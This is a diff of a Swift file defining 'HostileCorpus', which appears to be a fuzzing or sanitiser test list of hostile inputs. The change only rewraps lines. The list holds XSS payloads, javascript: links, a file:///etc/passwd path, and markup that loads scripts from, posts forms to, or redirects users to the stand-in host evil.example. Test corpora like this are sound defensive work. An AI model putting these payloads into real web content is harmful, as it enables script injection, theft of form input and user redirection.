@@ -3,8 +3,10 @@ enum HostileCorpus {
     static let values: [String] = [
         // Script and HTML injection.
         "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
-        "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "\"><script>alert(1)</script>",
-        "'><img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">click</a>", "<style>body{display:none}</style>",
+        "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
+        "\"><script>alert(1)</script>",
+        "'><img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">click</a>",
+        "<style>body{display:none}</style>",
         "<meta http-equiv=refresh content=0;url=https://evil.example>", "<base href=https://evil.example/>",
         "<form action=https://evil.example><input name=p></form>", "<object data=javascript:alert(1)>",
         "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
@@ -15,7 +17,8 @@ enum HostileCorpus {
         "file:///etc/passwd", "//evil.example/x",
         // Markdown link and image tricks.
         "[click](javascript:alert(1))", "![x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
-        "<javascript:alert(1)>", "[x]: javascript:alert(1)\n[click][x]", "[a](https://ok.example \"title\" onclick=alert(1))",
+        "<javascript:alert(1)>", "[x]: javascript:alert(1)\n[click][x]",
+        "[a](https://ok.example \"title\" onclick=alert(1))",
         "**bold** _em_ `code` ~~strike~~", "# heading\n- list\n> quote", "```\ncode block\n```", "<!-- comment -->",
         "|a|b|\n|-|-|\n|1|2|", "\\*not emphasis\\*", "1. looks like a list",
         // Breaking out of XML, titles, attributes.
